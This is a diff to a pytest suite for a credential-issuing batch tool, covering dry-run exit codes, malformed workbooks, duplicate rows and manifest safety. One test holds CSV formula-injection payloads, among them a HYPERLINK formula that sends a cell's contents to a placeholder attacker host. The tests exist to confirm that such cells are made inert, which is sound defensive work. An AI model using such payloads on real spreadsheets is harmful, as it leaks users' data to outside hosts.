@@ -218,7 +218,7 @@ def test_a_student_with_two_credentials_is_not_revoked_by_guess(tmp_path, demo_k
 def test_dry_run_previews_every_error_and_signs_and_writes_nothing(tmp_path):
     out = tmp_path / "out"
     done = batch(COHORT, out, "--format", "both", "--dry-run")
-    assert done.returncode == 6, done.stderr            # as the real run would end: partly issued
+    assert done.returncode == 1, done.stderr            # a preview that finds errors (a real run would exit 6)
     assert not out.exists()                             # no ledger, no credential, no manifest, not even the folder
     text = done.stdout
     assert "rows read:   20" in text and "18 row(s) -> 36 credential(s)" in text and "refused:     2 row(s)" in text
@@ -236,7 +236,7 @@ def test_dry_run_leaves_an_existing_ledger_unchanged(tmp_path):
     batch(COHORT, out)
     before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
     done = batch(COHORT, out, "--dry-run")
-    assert done.returncode == 6
+    assert done.returncode == 1
     assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before
 
 
@@ -245,6 +245,10 @@ def test_dry_run_of_a_clean_file_exits_0_and_of_an_all_bad_file_exits_1(tmp_path
     assert batch(good, tmp_path / "o1", "--dry-run").returncode == 0
     bad = write_csv(tmp_path / "bad.csv", [["S-9", "Ana", "", "x", "", ""]])
     assert batch(bad, tmp_path / "o2", "--dry-run").returncode == 1
+    mixed = write_csv(tmp_path / "mixed.csv", [ROWS[0], ["S-9", "Ana", "", "x", "", ""]])
+    done = batch(mixed, tmp_path / "o3", "--dry-run", "--json")
+    assert done.returncode == 1 and json.loads(done.stdout)["outcome"] == "partial"   # never 6: nothing issued
+    assert "with --dry-run" in edc("batch", "--help").stdout
     preview = preview_batch(None, [{"learner": {"given_name": "A"}}], formats=["ob3"], signer=demo_keys.issuer)
     assert preview.refused_rows == 1 and preview.errors
 
@@ -368,3 +372,116 @@ def test_student_lookup_also_finds_entries_written_before_the_student_reference_
         assert found.one() == old.credential_id
         with pytest.raises(LedgerError, match="student id"):
             resolve_credential(ledger, student="S-78", pseudonym_key=key)
+
+
+# --- what the manifest may hold (review 14) ---------------------------------------------------------------
+
+def test_manifest_cells_that_a_spreadsheet_would_run_as_formulas_are_made_inert(tmp_path):
+    hostile = ['=HYPERLINK("http://evil.example/?x="&B2)', "@SUM(1+1)", "+1", "-2+3"]
+    rows = write_csv(tmp_path / "c.csv", [[sid, "Ana", f"F{i}", f"a{i}@example.org", "", ""]
+                                         for i, sid in enumerate(hostile)])
+    out = tmp_path / "out"
+    batch(rows, out)
+    written = [m["student_id"] for m in manifest(out)]
+    assert written == ["'" + sid for sid in hostile]
+    with (out / "manifest.csv").open(encoding="utf-8", newline="") as handle:
+        for line in csv.reader(handle):
+            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), line
+
+
+def test_csv_safe_cell_leaves_ordinary_text_alone():
+    from edcissuer.tabular import csv_safe_cell
+    assert csv_safe_cell("S-001") == "S-001" and csv_safe_cell("") == "" and csv_safe_cell("a=b") == "a=b"
+    assert csv_safe_cell("=1") == "'=1" and csv_safe_cell("\rx") == "'\rx"
+
+
+def test_manifest_reasons_name_the_field_and_column_but_never_the_value(tmp_path):
+    rows = write_csv(tmp_path / "c.csv", [["S1", "Ana", "Ferreira", "ana.ferreira@uni", "1998-02-30", ""]])
+    out = tmp_path / "out"
+    batch(rows, out)
+    [line] = manifest(out)
+    assert line["status"] == "refused"
+    assert "learner.email [column email]: email is not an e-mail address" in line["reason"]
+    assert "[column date_of_birth]" in line["reason"]
+    text = (out / "manifest.csv").read_text(encoding="utf-8")
+    assert "ana.ferreira@uni" not in text and "1998-02-30" not in text and "Ferreira" not in text
+    full = (out / "errors.jsonl").read_text(encoding="utf-8")      # the registrar's private copy keeps them
+    assert "ana.ferreira@uni" in full and "1998-02-30" in full and mode(out / "errors.jsonl") == 0o600
+
+
+def _rezipped(source: Path, target: Path, change) -> Path:
+    """A copy of a real workbook with one part changed (`change(name, bytes) -> bytes | None`, None drops it)."""
+    import zipfile
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
+        for item in old.infolist():
+            data = change(item.filename, old.read(item.filename))
+            if data is not None:
+                new.writestr(item, data)
+    return target
+
+
+@pytest.fixture
+def workbook(tmp_path) -> Path:
+    openpyxl = pytest.importorskip("openpyxl", reason="reading .xlsx needs openpyxl")
+    book = openpyxl.Workbook()
+    book.active.append(HEADER)
+    for row in ROWS:
+        book.active.append(row)
+    path = tmp_path / "good.xlsx"
+    book.save(path)
+    return path
+
+
+def test_a_workbook_without_worksheets_is_an_input_error_naming_the_file(tmp_path, workbook):
+    import re as regex
+
+    def no_sheets(name: str, data: bytes) -> bytes | None:
+        if name == "xl/workbook.xml":
+            return regex.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data, flags=regex.S)
+        return None if name.startswith("xl/worksheets/") else data
+    path = _rezipped(workbook, tmp_path / "nosheet.xlsx", no_sheets)
+    with pytest.raises(InputError, match="not a readable .xlsx workbook") as caught:
+        list(read_rows(path))
+    assert caught.value.field == str(path)
+
+
+def test_a_truncated_sheet_is_an_input_error_naming_the_file(tmp_path, workbook):
+    def truncated(name: str, data: bytes) -> bytes:
+        return data[: len(data) // 2] if name.startswith("xl/worksheets/sheet") else data
+    path = _rezipped(workbook, tmp_path / "truncated.xlsx", truncated)
+    with pytest.raises(InputError, match="not a readable .xlsx workbook") as caught:
+        list(read_rows(path))
+    assert caught.value.field == str(path)
+    done = batch(path, tmp_path / "out")
+    assert done.returncode == 1 and "truncated.xlsx" in done.stderr
+
+
+def test_a_duplicate_added_on_a_re_run_is_refused_and_the_issued_row_keeps_its_credential(tmp_path):
+    header = ["student_id", "given_name", "family_name", "email"]
+    first = [["S1", "Ana", "Ferreira", "ana@example.org"], ["S2", "Bo", "Bar", "bo@example.org"]]
+    out = tmp_path / "out"
+    assert batch(write_csv(tmp_path / "d.csv", first, header=header), out).returncode == 0
+    issued = {m["row"]: m["credential_id"] for m in manifest(out)}
+    again = batch(write_csv(tmp_path / "d2.csv", [*first, ["S1", "Ana", "Ferreira-Typo", "ana2@example.org"]],
+                            header=header), out, "--json")
+    assert again.returncode == 6, again.stderr
+    lines = {m["row"]: m for m in manifest(out)}
+    assert [(lines[r]["status"], lines[r]["credential_id"]) for r in ("1", "2")] == [
+        ("skipped", issued["1"]), ("skipped", issued["2"])]
+    assert lines["3"]["status"] == "refused" and lines["3"]["credential_id"] == ""
+    assert "same student_id as row 1, which is already issued" in lines["3"]["reason"]
+    summary = json.loads(again.stdout)
+    assert (summary["issued"], summary["skipped"], summary["refusedRows"]) == (0, 2, 1)
+    assert [e["row"] for e in summary["errors"]] == [3]
+    with Ledger.open(out / "ledger.sqlite") as ledger:
+        assert len(list(ledger.entries())) == 2
+
+
+def test_an_exact_repeat_of_an_issued_row_added_on_a_re_run_refuses_only_the_repeat(tmp_path):
+    out = tmp_path / "out"
+    batch(write_csv(tmp_path / "a.csv", ROWS[:2]), out)
+    again = batch(write_csv(tmp_path / "b.csv", [*ROWS[:2], ROWS[0]]), out, "--json")
+    summary = json.loads(again.stdout)
+    assert [(e["row"], e["reason"]) for e in summary["errors"]] == [
+        (3, "row 3 repeats row 1, which is already issued: remove row 3")]
+    assert [m["status"] for m in manifest(out)] == ["skipped", "skipped", "refused"]
